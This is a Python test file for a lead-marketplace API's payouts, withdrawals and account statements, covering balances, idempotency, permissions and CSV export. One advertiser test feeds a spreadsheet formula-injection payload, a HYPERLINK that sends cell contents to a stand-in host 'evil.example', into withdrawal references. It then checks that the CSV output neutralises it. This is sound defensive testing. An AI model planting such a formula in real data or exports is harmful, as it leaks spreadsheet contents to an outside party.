"""Payouts, withdrawals and statements (issue 5 item 7): operators pay webmasters from `available` and give
advertisers unused balance back, each with one receipt and an operator action, never more than is there (402), with
Idempotency-Key; GET /v1/accounts/{id}/statement (JSON and CSV) is derived from receipts and closes on the balance.
Webmasters get available money the real way: intake leads bought by an advertiser in a niche with a zero return
window, settled by the server's settlement job. MarketCase checks the ledger and the sales after every test."""
import csv
import datetime
import io
import secrets

from harness import UUID_RE, bearer, main, problem, psql, wait_for
from market_common import JSON
from test_market import MarketCase, fee


def now_rfc3339(delta_s=0.0):
    t = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(seconds=delta_s)
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


# A random UUID in version-7 form, as the API's Uuid schema wants (a v4 with its version nibble replaced).
V7 = "overlay(gen_random_uuid()::text placing '7' from 15 for 1)::uuid"


class PayoutCase(MarketCase):
    server_env = {"LEADX_SETTLE_INTERVAL_MS": "100"}

    def move(self, what, account_id, amount, currency="RUB", reference=None, key=None, token=None, body=None):
        headers = {**bearer(token or self.op), **JSON}
        if key is not None:
            headers["Idempotency-Key"] = key
        if body is None:
            body = {"amount": amount, "currency": currency, "reference": reference or f"wire {secrets.token_hex(4)}"}
        return self.h2.post(f"/v1/accounts/{account_id}/{what}", json=body, headers=headers)

    def funded_webmaster(self, n=2):
        """A webmaster with n settled exclusive sales: returns (account, token, available)."""
        niche = self.new_niche(return_window_hours=0)
        wm, wm_token = self.webmaster()
        _, adv = self.advertiser(funds=10 ** 7)
        ps = [self.bought(self.new_lead(niche=niche["slug"], token=wm_token)["id"], "exclusive", adv) for _ in range(n)]
        ids = ",".join(f"'{p['id']}'" for p in ps)
        wait_for(lambda: psql(self.db_url, f"SELECT count(*) FROM sales WHERE id IN ({ids}) AND settled_at IS NULL")
                 == "0", 15, what="settlement")
        available = sum(p["price"] - fee(p["price"], 1500) for p in ps)
        self.assertEqual(self.db_balance(wm["id"], "available"), available)
        return wm, wm_token, available

    def statement(self, account_id, token=None, **params):
        return self.h2.get(f"/v1/accounts/{account_id}/statement", params=params, headers=bearer(token or self.op))

    def receipts(self, token, **params):
        r = self.h2.get("/v1/receipts", params=params, headers=bearer(token))
        self.assertEqual(r.status_code, 200, r.text)
        return [i["receipt"]["body"] for i in r.json()["items"]]

    def txn_count(self):
        return int(psql(self.db_url, "SELECT count(*) FROM ledger_txns"))


class Payouts(PayoutCase):
    def test_payout_moves_available_to_cash_with_a_receipt(self):
        wm, wm_token, available = self.funded_webmaster()
        r = self.move("payouts", wm["id"], 1000, reference="payout #1")
        self.assertEqual(r.status_code, 201, r.text)
        d = r.json()
        self.assertRegex(d["id"], UUID_RE)
        self.assertEqual((d["kind"], d["account_id"], d["amount"], d["currency"], d["reference"], d["book"], d["balance"]),
                         ("payout", wm["id"], 1000, "RUB", "payout #1", "available", available - 1000))
        self.assertEqual(self.db_balance(wm["id"], "available"), available - 1000)
        entries = [(e["account_id"], e["book"], e["amount"]) for e in self.entries(account=wm["id"])
                   if e["txn_id"] == d["id"]]
        self.assertEqual(entries, [(wm["id"], "available", -1000)])
        self.assertEqual(psql(self.db_url, f"SELECT book, amount FROM ledger_entries WHERE txn_id = '{d['id']}' "
                                           "AND account_id IS NULL"), "cash|1000")
        # One receipt, the webmaster's, visible to it.
        (body,) = self.receipts(wm_token, kind="payout")
        self.assertEqual((body["id"], body["kind"], body["amount"], body["account"], body["ledger_txn"],
                          body["reference"]), (d["receipt_id"], "payout", -1000, wm["id"], d["id"], "payout #1"))
        # The operator action.
        self.assertEqual(psql(self.db_url, f"SELECT action, target FROM operator_actions WHERE details->>'txn_id' = "
                                           f"'{d['id']}'"), f"payout.create|{wm['id']}")
        # All the rest, to zero.
        r = self.move("payouts", wm["id"], available - 1000)
        self.assertEqual((r.status_code, r.json()["balance"]), (201, 0), r.text)

    def test_more_than_available_is_402(self):
        wm, _, available = self.funded_webmaster(1)
        before = self.txn_count()
        problem(self.move("payouts", wm["id"], available + 1), 402, "insufficient_funds")
        self.assertEqual(self.txn_count(), before)
        self.assertEqual(self.db_balance(wm["id"], "available"), available)
        # Pending money (inside the return window) cannot be paid out.
        niche = self.new_niche(return_window_hours=24)
        wm2, wm2_token = self.webmaster()
        _, adv = self.advertiser(funds=10 ** 6)
        self.bought(self.new_lead(niche=niche["slug"], token=wm2_token)["id"], "exclusive", adv)
        self.assertGreater(self.db_balance(wm2["id"], "pending"), 0)
        problem(self.move("payouts", wm2["id"], 1), 402, "insufficient_funds")

    def test_targets(self):
        adv, _ = self.advertiser(funds=1000)
        wm, _ = self.webmaster()
        op_id = self.h2.get("/v1/me", headers=bearer(self.op)).json()["account"]["id"]
        for what, acct in (("payouts", adv["id"]), ("payouts", op_id), ("withdrawals", wm["id"]),
                           ("withdrawals", op_id)):
            with self.subTest(what=what, acct=acct):
                problem(self.move(what, acct, 1), 422, "validation_failed", field="path.id")
        problem(self.move("payouts", wm["id"], 1, currency="USD"), 422, "validation_failed", field="/currency")
        problem(self.move("withdrawals", adv["id"], 1, currency="USD"), 422, "validation_failed", field="/currency")
        for what in ("payouts", "withdrawals"):
            problem(self.move(what, "019ab1f2-3c4d-7e5f-8a6b-7c8d9e0f1a2b", 1), 404, "not_found")
            for amount in (0, -1, 1.5, "1", None, 2 ** 53):
                problem(self.move(what, wm["id"], None, body={"amount": amount, "currency": "RUB", "reference": "r"}),
                        422, "validation_failed", field="/amount")
            problem(self.move(what, wm["id"], None, body={"amount": 1, "currency": "RUB", "reference": "  "}),
                    422, "validation_failed", field="/reference")
            problem(self.move(what, wm["id"], None, body={"amount": 1, "currency": "RUB"}),
                    422, "validation_failed", field="/reference")
            problem(self.move(what, wm["id"], None, body={"amount": 1, "currency": "RUB", "reference": "r", "x": 1}),
                    422, "validation_failed")

    def test_operators_only(self):
        adv, adv_token = self.advertiser(funds=1000)
        wm, wm_token = self.webmaster()
        for token in (adv_token, wm_token):
            problem(self.move("payouts", wm["id"], 1, token=token), 403, "forbidden")
            problem(self.move("withdrawals", adv["id"], 1, token=token), 403, "forbidden")
        self.assertEqual(self.db_balance(adv["id"]), 1000)

    def test_idempotent_replay(self):
        wm, _, available = self.funded_webmaster(1)
        key = secrets.token_hex(8)
        r1 = self.move("payouts", wm["id"], 100, reference="once", key=key)
        self.assertEqual(r1.status_code, 201, r1.text)
        r2 = self.move("payouts", wm["id"], 100, reference="once", key=key)
        self.assertEqual(r2.status_code, 201, r2.text)
        self.assertEqual(r2.json()["id"], r1.json()["id"])
        self.assertEqual(r2.json()["receipt_id"], r1.json()["receipt_id"])
        self.assertEqual(self.db_balance(wm["id"], "available"), available - 100)
        problem(self.move("payouts", wm["id"], 101, reference="once", key=key), 422, "idempotency_key_reused")
        # A refused payout does not use up its key.
        key2 = secrets.token_hex(8)
        problem(self.move("payouts", wm["id"], available, reference="all", key=key2), 402, "insufficient_funds")
        r = self.move("payouts", wm["id"], available - 100, reference="all", key=key2)
        self.assertEqual((r.status_code, r.json()["balance"]), (201, 0), r.text)


class Withdrawals(PayoutCase):
    def test_withdrawal_gives_back_unused_balance(self):
        adv, adv_token = self.advertiser(funds=5000)
        r = self.move("withdrawals", adv["id"], 2000, reference="refund to card")
        self.assertEqual(r.status_code, 201, r.text)
        d = r.json()
        self.assertEqual((d["kind"], d["amount"], d["book"], d["balance"]), ("withdrawal", 2000, "balance", 3000))
        self.assertEqual(self.balance(adv["id"]).json()["balance"], 3000)
        (body,) = self.receipts(adv_token, kind="withdrawal")
        self.assertEqual((body["id"], body["amount"], body["ledger_txn"]), (d["receipt_id"], -2000, d["id"]))
        self.assertEqual(psql(self.db_url, f"SELECT action FROM operator_actions WHERE details->>'txn_id' = "
                                           f"'{d['id']}'"), "withdrawal.create")
        problem(self.move("withdrawals", adv["id"], 3001), 402, "insufficient_funds")

    def test_never_below_zero_even_with_credit(self):
        adv, adv_token = self.advertiser(funds=3000)
        r = self.patch_account(adv["id"], {"credit_limit": 100_000})
        self.assertEqual(r.status_code, 200, r.text)
        self.assertEqual(self.balance(adv["id"]).json()["available"], 103_000)
        before = self.txn_count()
        problem(self.move("withdrawals", adv["id"], 3001), 402, "insufficient_funds")
        self.assertEqual(self.txn_count(), before)
        r = self.move("withdrawals", adv["id"], 3000)
        self.assertEqual((r.status_code, r.json()["balance"]), (201, 0), r.text)
        problem(self.move("withdrawals", adv["id"], 1), 402, "insufficient_funds")
        # Spending into credit, then: nothing to withdraw.
        lead = self.new_lead(niche=self.slug)
        self.bought(lead["id"], "exclusive", adv_token)
        self.assertLess(self.db_balance(adv["id"]), 0)
        problem(self.move("withdrawals", adv["id"], 1), 402, "insufficient_funds")


def csv_text(s):
    """A free-text CSV cell as leadx writes it: a leading ' before what a spreadsheet would run as a formula."""
    return "'" + s if s[:1] in ("=", "+", "-", "@", "\t", "\r") and s else s


class Statements(PayoutCase):
    def check_csv(self, text, doc):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        self.assertEqual(rows[0], ["issued_at", "receipt_id", "kind", "book", "amount", "currency", "lead_id",
                                   "sale_id", "ledger_txn", "reference"])
        self.assertEqual(len(rows) - 1, len(doc["lines"]))
        for row, line in zip(rows[1:], doc["lines"]):
            self.assertEqual(row, [line["issued_at"], line["receipt_id"], line["kind"], line["book"], str(line["amount"]),
                                   line["currency"], line["lead_id"] or "", line["sale_id"] or "", line["ledger_txn"],
                                   csv_text(line["reference"] or "")])
        return rows

    def test_a_period_is_final_an_hour_after_it_ended(self):
        wm, wm_token, available = self.funded_webmaster(1)
        now = self.statement(wm["id"], token=wm_token).json()
        self.assertFalse(now["final"])
        to = (datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(minutes=62)).strftime("%Y-%m-%dT%H:%M:%SZ")
        past = self.statement(wm["id"], token=wm_token, to=to).json()
        self.assertTrue(past["final"])
        self.assertEqual(past["lines"], [])

    def test_webmaster_statement_closes_on_the_balance(self):
        wm, wm_token, available = self.funded_webmaster(2)
        r = self.move("payouts", wm["id"], 700, reference='ref, with "quotes"')
        self.assertEqual(r.status_code, 201, r.text)
        # A sale still pending too.
        niche = self.new_niche(return_window_hours=24)
        _, adv = self.advertiser(funds=10 ** 6)
        self.bought(self.new_lead(niche=niche["slug"], token=wm_token)["id"], "exclusive", adv)
        bal = self.balance(wm["id"], token=wm_token).json()
        for token in (wm_token, self.op):
            r = self.statement(wm["id"], token=token)
            self.assertEqual(r.status_code, 200, r.text)
            doc = r.json()
            self.assertEqual((doc["account_id"], doc["role"], doc["currency"], doc["from"]), (wm["id"], "webmaster", "RUB", None))
            self.assertEqual(doc["opening"], {"balance": None, "pending": 0, "available": 0})
            self.assertEqual(doc["closing"], {"balance": None, "pending": bal["pending"], "available": bal["available"]})
            self.assertEqual(doc["totals"]["sale"]["count"], 3)
            self.assertEqual(doc["totals"]["settlement"]["amount"], available)
            self.assertEqual(doc["totals"]["payout"], {"count": 1, "amount": -700})
            self.assertEqual(doc["totals"]["deposit"], {"count": 0, "amount": 0})
            self.assertEqual([(l["issued_at"], l["receipt_id"]) for l in doc["lines"]],
                             sorted((l["issued_at"], l["receipt_id"]) for l in doc["lines"]))
        # The CSV says the same, RFC 4180-quoted.
        r = self.statement(wm["id"], token=wm_token, format="csv")
        self.assertEqual(r.status_code, 200, r.text)
        self.assertTrue(r.headers["content-type"].startswith("text/csv"))
        self.assertIn('"ref, with ""quotes"""', r.text)
        rows = self.check_csv(r.text, doc)
        self.assertEqual(sum(int(row[4]) for row in rows[1:] if row[3] == "available"), bal["available"])
        # A period: the opening carries everything before it; totals only what is inside.
        payout_line = [l for l in doc["lines"] if l["kind"] == "payout"][0]
        r = self.statement(wm["id"], **{"from": payout_line["issued_at"]})
        part = r.json()
        self.assertEqual(r.status_code, 200, r.text)
        self.assertEqual(part["from"], payout_line["issued_at"])
        self.assertEqual(part["lines"][0]["receipt_id"], payout_line["receipt_id"])
        self.assertEqual(part["opening"]["available"], available)
        self.assertEqual(part["closing"], doc["closing"])
        r = self.statement(wm["id"], to=payout_line["issued_at"])
        self.assertEqual(r.json()["closing"], {"balance": None, "pending": 0, "available": available})
        self.assertEqual(r.json()["totals"]["payout"]["count"], 0)

    def test_advertiser_statement(self):
        adv, adv_token = self.advertiser(funds=10 ** 6)
        self.bought(self.new_lead(niche=self.slug)["id"], "exclusive", adv_token)
        self.assertEqual(self.move("withdrawals", adv["id"], 1000).status_code, 201)
        formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
        for ref in (formula, "-1+1", "@SUM(A1)", "+7 wire"):
            self.assertEqual(self.move("withdrawals", adv["id"], 1, reference=ref).status_code, 201)
        bal = self.balance(adv["id"]).json()["balance"]
        doc = self.statement(adv["id"], token=adv_token).json()
        self.assertEqual(doc["closing"], {"balance": bal, "pending": None, "available": None})
        self.assertEqual(doc["totals"]["deposit"], {"count": 1, "amount": 10 ** 6})
        self.assertEqual(doc["totals"]["withdrawal"], {"count": 5, "amount": -1004})
        self.assertEqual(doc["totals"]["sale"]["count"], 1)
        self.assertIn(formula, [l["reference"] for l in doc["lines"]])  # JSON keeps the reference as it is
        r = self.statement(adv["id"], token=adv_token, format="csv")
        self.check_csv(r.text, doc)
        # a spreadsheet sees text, never a formula: the cell starts with '
        self.assertIn('"\'=HYPERLINK(""http://evil.example/?""&A1,""refund"")"', r.text)
        self.assertIn('"\'-1+1"', r.text)
        self.assertNotIn(",=", r.text)
        # The future is empty; an empty CSV is its header.
        r = self.statement(adv["id"], **{"from": now_rfc3339(3600), "to": now_rfc3339(7200)})
        self.assertEqual((r.json()["lines"], r.json()["opening"], r.json()["closing"]),
                         ([], {"balance": bal, "pending": None, "available": None},
                          {"balance": bal, "pending": None, "available": None}))
        r = self.statement(adv["id"], format="csv", **{"from": now_rfc3339(3600), "to": now_rfc3339(7200)})
        self.assertEqual((r.status_code, r.text.count("\r\n")), (200, 1), r.text)
        # A future start without an end is after "now": 422.
        problem(self.statement(adv["id"], **{"from": now_rfc3339(3600)}), 422, "validation_failed", field="query.to")

    def test_too_many_lines_is_422(self):
        adv, adv_token = self.advertiser()
        # 10,001 stand-in receipts (receipts alone, no ledger: the statement reads receipts only).
        psql(self.db_url, "INSERT INTO receipts (id, account_id, kind, book, ledger_txn, amount, currency, issued_at, "
                          "body, key_id, signature) SELECT " + V7 + ", "
                          f"'{adv['id']}', 'deposit', 'balance', " + V7 + ", 1, 'RUB', "
                          "now() - interval '1 hour' + g * interval '1 ms', '{}', '0000000000000000', repeat('A', 86) "
                          "FROM generate_series(1, 10001) g")
        problem(self.statement(adv["id"], token=adv_token), 422, "validation_failed", field="query.to")
        problem(self.statement(adv["id"], format="csv", **{"from": "2020-01-01T00:00:00Z"}), 422, "validation_failed",
                field="query.from")
        # A narrower period is fine: 10,000 lines, the rest in the opening.
        first = psql(self.db_url, f"SELECT to_char((min(issued_at) + interval '1 ms') AT TIME ZONE 'UTC', "
                                  f"'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"') FROM receipts WHERE account_id = '{adv['id']}'")
        doc = self.statement(adv["id"], token=adv_token, **{"from": first}).json()
        self.assertEqual((len(doc["lines"]), doc["opening"]["balance"], doc["closing"]["balance"]), (10000, 1, 10001))
        self.assertEqual(doc["totals"]["deposit"], {"count": 10000, "amount": 10000})
        r = self.statement(adv["id"], token=adv_token, format="csv", **{"from": first})
        self.assertEqual(r.text.count("\r\n"), 10001)

    def test_roles_and_bad_parameters(self):
        adv, adv_token = self.advertiser(funds=100)
        wm, wm_token = self.webmaster()
        problem(self.statement(adv["id"], token=wm_token), 404, "not_found")
        problem(self.statement(wm["id"], token=adv_token), 404, "not_found")
        op_id = self.h2.get("/v1/me", headers=bearer(self.op)).json()["account"]["id"]
        problem(self.statement(op_id), 404, "not_found")
        problem(self.statement("019ab1f2-3c4d-7e5f-8a6b-7c8d9e0f1a2b"), 404, "not_found")
        problem(self.statement(adv["id"], **{"from": "yesterday"}), 400, "invalid_parameter", field="query.from")
        problem(self.statement(adv["id"], to="2026-13-01T00:00:00Z"), 400, "invalid_parameter", field="query.to")
        problem(self.statement(adv["id"], format="xml"), 400, "invalid_parameter", field="query.format")
        problem(self.statement(adv["id"], **{"from": "2026-01-02T00:00:00Z", "to": "2026-01-01T00:00:00Z"}), 422,
                "validation_failed", field="query.to")
        problem(self.statement(adv["id"], bogus="1"), 400, "invalid_parameter")
        self.assertEqual(self.statement(adv["id"], token=adv_token, **{"from": "2020-01-01T00:00:00+03:00"}).status_code, 200)


if __name__ == "__main__":
    main()
